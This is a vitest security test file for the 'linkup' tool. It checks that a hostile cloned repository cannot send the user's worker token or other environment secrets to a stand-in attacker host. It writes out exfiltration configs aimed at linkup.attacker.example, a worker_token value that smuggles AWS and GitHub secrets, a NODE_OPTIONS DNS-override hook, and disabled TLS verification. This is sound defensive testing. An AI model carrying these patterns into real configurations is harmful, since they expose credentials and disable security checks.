import dns from "node:dns";
import { readFileSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from "node:http";
import { createServer as createHttpsServer } from "node:https";
import { type AddressInfo, createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { createAuthority, issueLeaf } from "../../core/certificates/certificate-authority.ts";
import { Manager } from "../../manager/manager.ts";
import { dist, TOKEN, World } from "../integration/manager/world.ts";
import { Victim } from "./victim.ts";

const HOST = "linkup.attacker.example";
const SECRETS = {
  AWS_SECRET_ACCESS_KEY: "wJalrXUtnFEMI",
  GITHUB_TOKEN: "ghp_16C7e42F292c6912E7",
  LINKUP_WORKER_TOKEN: "the-victims-worker-token",
};

let victim: Victim;
let servers: Server[];
/** What the attacker's Worker was sent: the Authorization header of each request, "" for one without. */
let heard: string[];
let https: string;
let http: string;

beforeEach(async () => {
  victim = await Victim.create();
  heard = [];
  const answer = ({ headers }: IncomingMessage, response: ServerResponse) => {
    heard.push(headers.authorization ?? "");
    response.writeHead(401).end("Unauthorized");
  };
  const leaf = await issueLeaf(
    await createAuthority(["attacker.example"], Date.now()),
    "attacker.example",
    Date.now(),
  );
  servers = [createHttpServer(answer), createHttpsServer({ cert: leaf.certificate, key: leaf.key }, answer)];
  const [plain, secure] = await Promise.all(servers.map(listening));
  http = `http://${HOST}:${plain}`;
  https = `https://${HOST}:${secure}`;
  // The attacker's name leads to this machine, and the attacker has a certificate for it.
  const hook = join(victim.home, "names.cjs");
  writeFileSync(
    hook,
    `const dns = require("node:dns");
const { lookup } = dns;
dns.lookup = (host, ...rest) => lookup(host.endsWith(".attacker.example") ? "127.0.0.1" : host, ...rest);
`,
  );
  Object.assign(victim.env, SECRETS, {
    NODE_OPTIONS: `--require ${hook}`,
    NODE_TLS_REJECT_UNAUTHORIZED: "0",
    NODE_NO_WARNINGS: "1",
  });
});
afterEach(async () => {
  await victim[Symbol.asyncDispose]();
  for (const server of servers) server.close();
});

async function listening(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return (server.address() as AddressInfo).port;
}

/** A refused command says why, tells no secret and asks nobody. */
async function refused(message: string, ...args: string[]): Promise<void> {
  const { code, stdout, stderr } = await victim.linkup(...args);
  expect(stdout + stderr).toContain(message);
  for (const secret of Object.values(SECRETS)) expect(stdout + stderr).not.toContain(secret);
  expect(heard).toEqual([]);
  expect(code).not.toBe(0);
}

describe("a cloned repository", () => {
  test("a worker_token that names other secrets of the environment", async () => {
    const linkup = 'worker_token: "${env:AWS_SECRET_ACCESS_KEY}.${env:GITHUB_TOKEN}"';
    delete victim.env.LINKUP_WORKER_TOKEN;
    for (const workerUrl of [https, http, "http://127.0.0.1:9"]) {
      victim.config({ workerUrl, linkup });
      await refused(
        workerUrl === http ? "in clear text" : "only variables whose names start with LINKUP_ are read",
        "start",
        "--detach",
      );
    }
  });

  test("a worker_url that gets LINKUP_WORKER_TOKEN by a start", async () => {
    victim.config({ workerUrl: https });
    await refused(`Your token has never been sent to ${https}`, "start", "--detach");
    await refused("worker-unconfirmed", "start", "--detach", "--json");
    await refused(
      `Your token has never been sent to ${https}`,
      "sessions",
      "create-preview",
      "web=https://x.example.com",
    );
    await refused(`Your token has never been sent to ${https}`, "sessions", "delete", "anything");
  });

  test("a worker_url that gets LINKUP_WORKER_TOKEN by way of the file", async () => {
    victim.config({ workerUrl: https, linkup: "worker_token: ${env:LINKUP_WORKER_TOKEN}" });
    await refused(`Your token has never been sent to ${https}`, "start", "--detach");
  });

  test("a worker_url over plain http", async () => {
    victim.config({ workerUrl: http });
    victim.env.LINKUP_WORKER_HOST = new URL(http).host;
    await refused("in clear text", "start", "--detach");
  });

  test("a worker_url that is asked by linkup health, without a start", async () => {
    for (const linkup of ["", "worker_token: a-token-of-the-attackers"]) {
      victim.config({ workerUrl: https, linkup });
      const { stdout } = await victim.linkup("health");
      expect(stdout).toContain(`Your token has never been sent to ${https}`);
      expect(heard).toEqual([]);
    }
  });

  test("a worker_url that is asked by the Doctor of an untrusted workspace, though it was confirmed", async () => {
    victim.config({ workerUrl: http.replace(HOST, "127.0.0.1") });
    const manager = new Manager({
      home: victim.linkupHome,
      dist: await dist(),
      version: "0.1.0",
      env: victim.env,
      user: { id: "window", keep: false },
      log: () => {},
    });
    const path = join(victim.clone, "linkup.yaml");
    const { checks } = await manager.health(path, { offline: true });
    expect(checks.filter(({ id }) => id === "worker")).toEqual([]);
    expect(heard).toEqual([]);
    await manager.health(path);
    expect(heard).toHaveLength(1);
    await manager.dispose();
  });

  test("a worker_url that changes while the session runs", async () => {
    const lookup = dns.lookup as (...args: unknown[]) => unknown;
    vi.spyOn(dns, "lookup").mockImplementation(((host: string, ...rest: unknown[]) =>
      lookup(host.endsWith(".attacker.example") ? "127.0.0.1" : host, ...rest)) as never);
    vi.stubEnv("NODE_TLS_REJECT_UNAUTHORIZED", "0");
    const world = await World.create();
    const path = world.configPath;
    const manager = new Manager({
      home: world.home,
      dist: world.dist,
      version: "0.1.0",
      env: world.env,
      user: { id: "window", keep: false },
      log: () => {},
    });
    try {
      await manager.start({ configPath: path });
      const before = readFileSync(path, "utf8");
      writeFileSync(path, before.replace(/worker_url: .*/, `worker_url: ${https}`));
      await manager.configChanged(path);
      expect(manager.snapshot.problems).toContainEqual(
        expect.objectContaining({ code: "worker-unconfirmed" }),
      );
      expect(heard).toEqual([]);
      // The proof that it would have been heard.
      expect(await manager.workerToConfirm(path)).toBe(https);
      await manager.confirmWorker(https);
      await manager.configChanged(path);
      expect(heard[0]).toBe(`Bearer ${TOKEN}`);
    } finally {
      await manager.stop("all");
      await manager.dispose();
      await world[Symbol.asyncDispose]();
      vi.unstubAllEnvs();
      vi.restoreAllMocks();
    }
  });
});

test("only the Worker that was confirmed gets the token", async () => {
  victim.config({ workerUrl: https });
  const { host } = new URL(https);
  const { code, stderr } = await victim.linkup("start", "--detach", "--worker-host", host);
  expect(stderr).toContain("does not accept the token");
  expect(code).toBe(4);
  expect(heard.length).toBeGreaterThan(0);
  expect(new Set(heard)).toEqual(new Set([`Bearer ${SECRETS.LINKUP_WORKER_TOKEN}`]));
  // Said for one command, not for ever.
  heard = [];
  await refused("Your token has never been sent", "start", "--detach");
});

test("a Worker that answers without end", async () => {
  const endless = createServer((socket) => {
    socket.on("error", () => {});
    socket.write("HTTP/1.1 200 OK\r\ncontent-type: application/json\r\nconnection: close\r\n\r\n");
    const more = () => {
      while (!socket.destroyed && socket.write("x".repeat(65_536)));
    };
    socket.on("drain", more);
    socket.once("data", more);
  });
  servers.push(endless);
  victim.config({ workerUrl: `http://127.0.0.1:${await listening(endless)}` });
  const { code, stderr, ms } = await victim.linkup("start", "--detach");
  expect(stderr).toContain("longer than");
  expect(code).toBe(4);
  expect(ms).toBeLessThan(15_000);
});
